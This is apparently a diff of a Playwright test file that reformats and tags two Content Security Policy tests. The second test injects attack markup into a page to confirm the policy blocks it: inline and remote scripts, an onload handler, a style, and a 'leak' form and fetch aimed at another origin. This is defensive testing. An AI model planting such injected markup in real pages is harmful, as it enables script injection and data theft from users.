@@ -46,35 +46,37 @@ async function policyOf(page: Page, address: string): Promise<ReadonlyMap<string
   );
 }
 
-test('[SAFE1] every document has the same strict policy', async ({ page, host }) => {
-  const [first, ...others] = await Promise.all(
-    DOCUMENTS.map((file) => policyOf(page, host.at(file))),
-  );
-  for (const other of others) expect([...other]).toEqual([...(first ?? [])]);
-  expect(first?.get('default-src')).toEqual([`'none'`]);
-  expect(first?.get('base-uri')).toEqual([`'none'`]);
-  expect(first?.get('form-action')).toEqual([`'self'`]);
-  expect(first?.get('require-trusted-types-for')).toEqual([`'script'`]);
-  const sources = [...(first ?? [])]
-    .filter(([name]) => name.endsWith('-src'))
-    .flatMap(([, s]) => s);
-  for (const source of sources) expect(source).toMatch(/^'(?:none|self|sha256-[\w+/]{43}=)'$/);
-});
+test(
+  '[SAFE1] every document has the same strict policy',
+  { tag: '@smoke' },
+  async ({ page, host }) => {
+    const [first, ...others] = await Promise.all(
+      DOCUMENTS.map((file) => policyOf(page, host.at(file))),
+    );
+    for (const other of others) expect([...other]).toEqual([...(first ?? [])]);
+    expect(first?.get('default-src')).toEqual([`'none'`]);
+    expect(first?.get('base-uri')).toEqual([`'none'`]);
+    expect(first?.get('form-action')).toEqual([`'self'`]);
+    expect(first?.get('require-trusted-types-for')).toEqual([`'script'`]);
+    const sources = [...(first ?? [])]
+      .filter(([name]) => name.endsWith('-src'))
+      .flatMap(([, s]) => s);
+    for (const source of sources) expect(source).toMatch(/^'(?:none|self|sha256-[\w+/]{43}=)'$/);
+  },
+);
 
 test.describe('an attack', () => {
   test.use({ expectedErrors: [/Content.Security.Policy|This document requires|violates/i] });
 
-  test('[SAFE2] what got into a page does not run, load or send', async ({
-    page,
-    shop,
-    host,
-    elsewhere,
-  }) => {
-    const { origin } = elsewhere;
-    host.edit('index.html', (html) =>
-      html.replace(
-        '<div id="root"',
-        `<div hidden>
+  test(
+    '[SAFE2] what got into a page does not run, load or send',
+    { tag: '@engines' },
+    async ({ page, shop, host, elsewhere }) => {
+      const { origin } = elsewhere;
+      host.edit('index.html', (html) =>
+        html.replace(
+          '<div id="root"',
+          `<div hidden>
           <script>document.documentElement.dataset.attack = 'script'</script>
           <script src="${origin}/script.js"></script>
           <img src="${host.at('favicon.svg')}" onload="document.documentElement.dataset.attack = 'handler'" alt="">
@@ -90,28 +92,29 @@ test.describe('an attack', () => {
         <style>#styled { position: absolute }</style>
         <form id="leak" action="${origin}/form"><button>leak</button></form>
         <div id="root"`,
-      ),
-    );
-    await shop.open(host.at(''));
-    await expect(shop.cards).toHaveCount(20);
-    await expect(page.locator('#styled')).toHaveCSS('position', 'static');
-    await expect(page.locator('#inline')).toHaveJSProperty('naturalWidth', 0);
-    const blocked = await page.evaluate(async (url) => {
-      const kinds = new Set<string>();
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-        kinds.add(effectiveDirective),
+        ),
       );
-      document.querySelector<HTMLElement>('#trap')?.click();
-      document.querySelector<HTMLElement>('#leak button')?.click();
-      await fetch(`${url}/fetch`).catch(() => undefined);
-      while (kinds.size < 3) await new Promise((done) => setTimeout(done, 20));
-      return [...kinds].toSorted();
-    }, origin);
-    // The link is stopped by one directive or the other: engines ask them in different order.
-    expect(blocked).toEqual(expect.arrayContaining(['connect-src', 'form-action']));
-    expect(await page.evaluate(() => document.documentElement.dataset['attack'])).toBeUndefined();
-    expect(elsewhere.visits).toEqual([]);
-  });
+      await shop.open(host.at(''));
+      await expect(shop.cards).toHaveCount(20);
+      await expect(page.locator('#styled')).toHaveCSS('position', 'static');
+      await expect(page.locator('#inline')).toHaveJSProperty('naturalWidth', 0);
+      const blocked = await page.evaluate(async (url) => {
+        const kinds = new Set<string>();
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          kinds.add(effectiveDirective),
+        );
+        document.querySelector<HTMLElement>('#trap')?.click();
+        document.querySelector<HTMLElement>('#leak button')?.click();
+        await fetch(`${url}/fetch`).catch(() => undefined);
+        while (kinds.size < 3) await new Promise((done) => setTimeout(done, 20));
+        return [...kinds].toSorted();
+      }, origin);
+      // The link is stopped by one directive or the other: engines ask them in different order.
+      expect(blocked).toEqual(expect.arrayContaining(['connect-src', 'form-action']));
+      expect(await page.evaluate(() => document.documentElement.dataset['attack'])).toBeUndefined();
+      expect(elsewhere.visits).toEqual([]);
+    },
+  );
 
   test('[SAFE3] no text becomes the address or the text of a script', async ({
     page,
